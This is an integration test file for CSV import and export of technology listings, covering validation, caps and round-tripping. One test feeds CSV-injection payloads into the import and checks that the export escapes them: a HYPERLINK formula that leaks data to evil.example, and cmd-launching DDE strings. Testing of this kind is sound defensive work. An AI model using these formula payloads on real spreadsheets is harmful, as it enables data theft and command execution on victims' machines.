import { parse } from 'csv-parse/sync';
import { TestApp, bootTestApp } from '../support/app';
import { databaseLegs } from '../support/database';
import { TestAdmin, TestMember, factories } from '../support/factories';
import { expectStatus } from './support/catalog-kit';
import { csvOf, goodRow } from './support/csv-files';

const MAX_ROWS = 10;
const MAX_DRAFTS = 12;

describe.each(databaseLegs())('CSV import and export (%s)', (leg) => {
  let app: TestApp;
  let vendor: TestMember;
  let admin: TestAdmin;

  beforeAll(async () => {
    app = await bootTestApp(leg, {
      CSV_IMPORT_MAX_ROWS: String(MAX_ROWS),
      CSV_IMPORT_MAX_DRAFTS_PER_ORGANIZATION: String(MAX_DRAFTS),
    });
    const kit = await factories(app);
    vendor = await kit.newMember('vendor');
    admin = await kit.newAdmin();
  });
  afterAll(() => app?.close());

  const importCsv = (csv: string, token = vendor.token, query = '') =>
    app.request({
      method: 'POST',
      url: `/api/v1/technologies/import${query}`,
      token,
      rawBody: csv,
      headers: { 'content-type': 'text/csv' },
    });
  const countOf = async (organizationId: string) =>
    Number(
      (
        await app.dataSource.query(`SELECT count(*) AS n FROM technology WHERE vendor_organization_id = $1`, [
          organizationId,
        ])
      )[0].n,
    );

  it('imports a good file as drafts of the caller’s organisation', async () => {
    const report = expectStatus(await importCsv(csvOf([goodRow(1), goodRow(2), goodRow(3)])), 200).body;
    expect(report).toEqual({ imported: 3, rejected: 0, errors: [], errorsTruncated: false });
    const [row] = await app.dataSource.query(
      `SELECT * FROM technology WHERE title = 'Imported bag filter 2'`,
    );
    expect(row).toMatchObject({
      status: 'draft',
      vendor_organization_id: vendor.organizationId,
      pollutants: ['pm2.5', 'pm10'],
      sectors: ['industry.brick-kilns'],
      categories: ['end-of-pipe.fabric-filter'],
      intents: [
        { pollutant: 'pm2.5', intent: 'removes' },
        { pollutant: 'pm10', intent: 'removes' },
      ],
      cost_basis: null,
      trl: 8,
      deployment_countries: ['CN', 'NP'],
      supply_countries: ['NP', 'IN', 'BD'],
      translations: [{ language: 'zh', title: '砖窑袋式除尘器 2', summary: '撬装式布袋除尘器。' }],
    });
    expect(row.reference_projects).toHaveLength(2);
    expect(row.removal_efficiency).toEqual([
      { pollutant: 'pm2.5', percent: 99 },
      { pollutant: 'pm10', percent: 99.5 },
    ]);
  });

  it('gives imported drafts their claims: each stated removal figure, then each certification, unverified', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const row = goodRow(5, { certifications: 'ISO 9001; CE' });
    expectStatus(await importCsv(csvOf([row, goodRow(6)]), owner.token), 200);
    const claimsOf = (title: string) =>
      app.dataSource.query(
        `SELECT c.kind, c.pollutant, c.value::text AS value, c.statement, c.position, c.verification
           FROM technology_claim c JOIN technology t ON t.id = c.technology_id
          WHERE t.title = $1 ORDER BY c.position`,
        [title],
      );
    expect(await claimsOf('Imported bag filter 5')).toEqual([
      {
        kind: 'removal-efficiency',
        pollutant: 'pm2.5',
        value: '99',
        statement: '99 % PM2.5 removal',
        position: 0,
        verification: 'stated',
      },
      {
        kind: 'removal-efficiency',
        pollutant: 'pm10',
        value: '99.5',
        statement: '99.5 % PM10 removal',
        position: 1,
        verification: 'stated',
      },
      {
        kind: 'certification',
        pollutant: null,
        value: null,
        statement: 'ISO 9001',
        position: 2,
        verification: 'stated',
      },
      {
        kind: 'certification',
        pollutant: null,
        value: null,
        statement: 'CE',
        position: 3,
        verification: 'stated',
      },
    ]);
    expect((await claimsOf('Imported bag filter 6')).map((c: { position: number }) => c.position)).toEqual([
      0, 1,
    ]);
  });

  it('reports each bad row by row number, field and rule, and writes nothing of it', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const rows = [
      goodRow(10),
      goodRow(11, { pollutants: 'pm2.5; pm10; PM25' }),
      goodRow(12, { capital_cost_min_usd: 500000, capital_cost_max_usd: 1000 }),
      goodRow(13),
      goodRow(14, { trl: 'high', title: '' }),
      goodRow(15, { reference_projects: 'Somewhere without fields', removal_efficiency: 'pm2.5 is great' }),
      goodRow(16, { removal_efficiency: 'so2=90' }),
      goodRow(17, { title_zh: '', summary_zh: '\u0000' }),
    ];
    const report = expectStatus(await importCsv(csvOf(rows), owner.token), 200).body;
    expect(report).toMatchObject({ imported: 2, rejected: 6, errorsTruncated: false });
    const fieldsByRow = new Map<number, string[]>();
    for (const error of report.errors)
      fieldsByRow.set(error.row, [...(fieldsByRow.get(error.row) ?? []), `${error.field}:${error.rule}`]);
    expect(Object.fromEntries(fieldsByRow)).toEqual({
      3: ['pollutants:inTaxonomy'],
      4: ['capital_cost_max_usd:notBelow'],
      6: expect.arrayContaining(['title:isString', 'trl:isInt']),
      7: ['removal_efficiency:format', 'reference_projects:format'],
      8: ['removal_efficiency:keysWithin'],
      9: ['summary_zh:storableText'],
    });
    const titles = (
      await app.dataSource.query(`SELECT title FROM technology WHERE vendor_organization_id = $1`, [
        owner.organizationId,
      ])
    ).map((r: { title: string }) => r.title);
    expect(titles.sort()).toEqual(['Imported bag filter 10', 'Imported bag filter 13']);
  });

  it('refuses a file with an unusable header or broken quoting as a whole', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const badHeader = await importCsv('title,summary,colour\nA,B,red\n', owner.token);
    expect(badHeader.status).toBe(400);
    expect(badHeader.body.errors).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ field: 'colour', rule: 'unknownColumn' }),
        expect.objectContaining({ field: 'category', rule: 'requiredColumn' }),
      ]),
    );
    const broken = await importCsv(`${csvOf([goodRow(20)])}"unclosed,quote\n`, owner.token);
    expect(broken.status).toBe(400);
    expect(broken.body.errors[0]).toMatchObject({ field: 'csv', rule: 'CSV_QUOTE_NOT_CLOSED' });
    expect(await countOf(owner.organizationId)).toBe(0);
  });

  it('accepts the JSON form, and lets admins import for a named vendor organisation only', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const json = await app.request({
      method: 'POST',
      url: '/api/v1/technologies/import',
      token: owner.token,
      body: { csv: csvOf([goodRow(30)]) },
    });
    expect(expectStatus(json, 200).body.imported).toBe(1);
    expect(
      (
        await app.request({
          method: 'POST',
          url: '/api/v1/technologies/import',
          token: owner.token,
          body: { csv: 1 },
        })
      ).status,
    ).toBe(400);
    expect(
      (
        await app.request({
          method: 'POST',
          url: '/api/v1/technologies/import',
          token: owner.token,
          body: { text: 'x' },
        })
      ).status,
    ).toBe(400);
    expect((await importCsv(csvOf([goodRow(31)]), admin.token)).body.errors[0]).toMatchObject({
      field: 'organizationId',
      rule: 'required',
    });
    const agency = await (await factories(app)).newMember('agency');
    expect(
      (await importCsv(csvOf([goodRow(32)]), admin.token, `?organizationId=${agency.organizationId}`)).status,
    ).toBe(404);
    expect(
      expectStatus(
        await importCsv(csvOf([goodRow(33)]), admin.token, `?organizationId=${owner.organizationId}`),
        200,
      ).body.imported,
    ).toBe(1);
    expect((await importCsv(csvOf([goodRow(34)]), agency.token)).status).toBe(403);
    expect(await countOf(owner.organizationId)).toBe(2);
  });

  it('exports the caller’s listings in the import format, and the export imports again', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    expectStatus(
      await importCsv(csvOf([goodRow(40), goodRow(41, { title: 'Quoted, "tricky" title' })]), owner.token),
      200,
    );
    const exported = await app.request({
      method: 'GET',
      url: '/api/v1/technologies/export?mine=true',
      token: owner.token,
    });
    expect(exported.status).toBe(200);
    expect(exported.headers['content-type']).toMatch(/^text\/csv/);
    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
    expect(records.map((r) => r.title).sort()).toEqual(['Imported bag filter 40', 'Quoted, "tricky" title']);
    expect(records[0]).toMatchObject({
      status: 'draft',
      pollutants: 'pm2.5; pm10',
      title_zh: expect.stringContaining('砖窑'),
    });
    const reimported = expectStatus(await importCsv(exported.text, owner.token), 200).body;
    expect(reimported).toMatchObject({ imported: 2, rejected: 0 });
    const [original, copy] = await app.dataSource.query(
      `SELECT title, pollutants, sectors, reference_projects, removal_efficiency, translations, capital_cost_min_usd
         FROM technology WHERE vendor_organization_id = $1 AND title = 'Imported bag filter 40' ORDER BY created_at`,
      [owner.organizationId],
    );
    expect(copy).toEqual(original);
  });

  it('escapes formula cells in the export (OWASP CSV injection), and the export imports back to the same text', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const hostile = {
      title: '=HYPERLINK("http://evil.example/?leak="&A1,"Bag filter 50")',
      summary: "@SUM(1+1)*cmd|' /C calc'!A0",
      description: "+cmd|' /C calc'!A0 then a skid-mounted aramid bag filter.",
      operating_cost_note: '-2+3 per operating hour',
      // A text that really starts with a quote: written escaped, as the export writes it.
      title_zh: "''=不是公式 50",
    };
    const tabbed = { title: "'quoted on purpose 51", description: '\tTabbed description of the filter.' };
    expectStatus(await importCsv(csvOf([goodRow(50, hostile), goodRow(51, tabbed)]), owner.token), 200);
    const exported = await app.request({
      method: 'GET',
      url: '/api/v1/technologies/export?mine=true',
      token: owner.token,
    });
    expect(exported.status).toBe(200);
    const records = parse(exported.text, { columns: true }) as Record<string, string>[];
    const row50 = records.find((r) => r.title.includes('Bag filter 50'))!;
    expect(row50).toMatchObject({
      title: `'${hostile.title}`,
      summary: `'${hostile.summary}`,
      description: `'${hostile.description}`,
      operating_cost_note: `'${hostile.operating_cost_note}`,
      title_zh: hostile.title_zh,
    });
    const row51 = records.find((r) => r.title.includes('51'))!;
    expect(row51.title).toBe(tabbed.title); // a quote before plain text is not an escape: left as it is
    for (const record of records) {
      for (const [column, cell] of Object.entries(record)) {
        expect([column, /^[=+\-@\t\r]/.test(cell)]).toEqual([column, false]);
      }
    }
    const titles = `SELECT title, summary, description, operating_cost_note, translations
                      FROM technology WHERE vendor_organization_id = $1 ORDER BY created_at, title`;
    const originals = await app.dataSource.query(titles, [owner.organizationId]);
    expect(originals.map((r: { title: string }) => r.title).sort()).toEqual(
      [tabbed.title, hostile.title].sort(),
    );
    const stored50 = originals.find((r: { title: string }) => r.title === hostile.title);
    expect(stored50).toMatchObject({
      summary: hostile.summary,
      description: hostile.description,
      operating_cost_note: hostile.operating_cost_note,
    });
    expect(stored50.translations[0].title).toBe("'=不是公式 50");
    expect(expectStatus(await importCsv(exported.text, owner.token), 200).body).toMatchObject({
      imported: 2,
      rejected: 0,
    });
    const all = await app.dataSource.query(titles, [owner.organizationId]);
    const key = (r: object) => JSON.stringify(r);
    expect(all.slice(2).map(key).sort()).toEqual(originals.map(key).sort());
  });

  it('refuses a file over the row cap with 413, naming the rule and the limit, and imports nothing', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const rows = Array.from({ length: MAX_ROWS + 1 }, (_, i) => goodRow(60 + i, { trl: i === 0 ? 'x' : 8 }));
    for (const response of [
      await importCsv(csvOf(rows), owner.token),
      await app.request({
        method: 'POST',
        url: '/api/v1/technologies/import',
        token: owner.token,
        body: { csv: csvOf(rows) },
      }),
    ]) {
      expect(response.status).toBe(413);
      expect(response.headers['content-type']).toMatch(/^application\/problem\+json/);
      expect(response.body).toMatchObject({
        status: 413,
        limit: MAX_ROWS,
        errors: [{ field: 'csv', rule: 'maxRows', message: expect.stringContaining(String(MAX_ROWS)) }],
      });
    }
    expect(await countOf(owner.organizationId)).toBe(0);
    expectStatus(await importCsv(csvOf(rows.slice(0, MAX_ROWS)), owner.token), 200);
  });

  it('refuses an import that would take an organisation over the draft cap with 422, and imports nothing', async () => {
    const owner = await (await factories(app)).newMember('vendor');
    const rows = (from: number, n: number) => Array.from({ length: n }, (_, i) => goodRow(from + i));
    expect(expectStatus(await importCsv(csvOf(rows(80, 10)), owner.token), 200).body.imported).toBe(10);
    // Rejected rows make no draft: 2 good rows and 1 bad one fit under the cap of 12.
    const withBadRow = [...rows(90, 2), goodRow(92, { trl: 'high' })];
    const tooMany = await importCsv(csvOf([...rows(100, 3)]), owner.token);
    expect(tooMany.status).toBe(422);
    expect(tooMany.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(tooMany.body).toMatchObject({
      status: 422,
      limit: MAX_DRAFTS,
      drafts: 10,
      errors: [{ field: 'csv', rule: 'maxDraftsPerOrganization' }],
    });
    expect(await countOf(owner.organizationId)).toBe(10);
    expect(expectStatus(await importCsv(csvOf(withBadRow), owner.token), 200).body).toMatchObject({
      imported: 2,
      rejected: 1,
    });
    expect(await countOf(owner.organizationId)).toBe(MAX_DRAFTS);
    // Two files at once cannot both slip under the cap: imports into one organisation take turns.
    const other = await (await factories(app)).newMember('vendor');
    const racing = await Promise.all([
      importCsv(csvOf(rows(110, 8)), other.token),
      importCsv(csvOf(rows(120, 8)), other.token),
    ]);
    expect(racing.map((r) => r.status).sort()).toEqual([200, 422]);
    expect(await countOf(other.organizationId)).toBe(8);
  });
});
